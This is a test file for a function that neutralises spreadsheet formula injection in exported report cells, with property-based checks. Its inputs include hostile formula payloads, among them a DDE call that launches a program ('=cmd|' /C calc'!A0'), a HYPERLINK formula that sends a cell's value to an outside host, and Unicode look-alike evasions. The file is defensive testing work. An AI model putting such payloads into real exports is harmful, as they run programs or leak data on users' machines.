import fc from '../support/properties';
import { neutralise } from '../../src/report/formula-injection';

const NO_BREAK_SPACE = '\u00a0';
const ZERO_WIDTH_SPACE = '\u200b';
const BYTE_ORDER_MARK = '\ufeff';
const RIGHT_TO_LEFT_MARK = '\u200f';
const LINE_SEPARATOR = '\u2028';
const NEXT_LINE = '\u0085';

describe('neutralise', () => {
  it.each([
    ['equals', '=1+1'],
    ['plus', '+1'],
    ['minus', '-1+cmd'],
    ['at', '@SUM(A1)'],
    ['a call of another program', "=cmd|' /C calc'!A0"],
    ['a link', '=HYPERLINK("http://a.example/?"&A1,"点击")'],
    ['full-width equals', '＝1+1'],
    ['full-width plus', '＋1'],
    ['full-width minus', '－1'],
    ['full-width at', '＠SUM(A1)'],
    ['small equals', '﹦1'],
    ['small plus', '﹢1'],
    ['small minus', '﹣1'],
    ['small at', '﹫A1'],
    ['blanks before it', '   =1+1'],
    ['a full-width blank before it', '　=1+1'],
    ['a no-break space before it', `${NO_BREAK_SPACE}=1+1`],
    ['a zero-width space before it', `${ZERO_WIDTH_SPACE}=1+1`],
    ['a byte order mark before it', `${BYTE_ORDER_MARK}=1+1`],
    ['a direction mark before it', `${RIGHT_TO_LEFT_MARK}＝1+1`],
    ['the sign alone', '-'],
  ])('marks as text: %s', (_case, text) => {
    expect(neutralise(text)).toBe(`'${text}`);
  });

  it.each([
    ['a tab first', '\t=1+1', "' =1+1"],
    ['a carriage return first', '\r=1+1', "' =1+1"],
    ['a line feed first', '\n@A1', "' @A1"],
    ['a null first', '\0=1+1', "' =1+1"],
    ['a formula on a second line', '合同约定\r\n=1+1', '合同约定 =1+1'],
    ['several line breaks', '一\n\n二\r三', '一 二 三'],
    ['separators of lines', `一${LINE_SEPARATOR}=1${NEXT_LINE}=2`, '一 =1 =2'],
    ['a tab inside', '项目\t=1', '项目 =1'],
  ])('puts on one line: %s', (_case, text, expected) => {
    expect(neutralise(text)).toBe(expected);
  });

  it.each([
    [''],
    ['指标值“=100%”应为“≥100%”。'],
    ['≥95%'],
    ['办公楼物业管理费'],
    ['A1=B1'],
    ['2023-01-01'],
    ['a@b.cn'],
    ["'=1+1"],
    ['"=1+1"'],
    ['— 不涉及'],
    [' 前后有空格 '],
  ])('leaves alone: %j', (text) => {
    expect(neutralise(text)).toBe(text);
  });

  it('never lets a formula, a line break or a tab through, and does its work once', () => {
    const hostile = fc
      .array(
        fc.constantFrom(
          ...Array.from('=+-@＝＋－＠﹦ \t\r\n\0"\',;甲'),
          NO_BREAK_SPACE,
          ZERO_WIDTH_SPACE,
          BYTE_ORDER_MARK,
        ),
      )
      .map((characters) => characters.join(''));
    fc.assert(
      fc.property(fc.oneof(hostile, fc.string({ unit: 'grapheme' })), (text) => {
        const safe = neutralise(text);
        expect(safe).not.toMatch(/[\t\r\n\0\u2028\u2029]/u);
        const shown = safe.normalize('NFKC').replace(/[\s\p{Cf}]/gu, '');
        expect(shown).not.toMatch(/^[=+\-@]/u);
        expect(neutralise(safe)).toBe(safe);
      }),
    );
  });
});
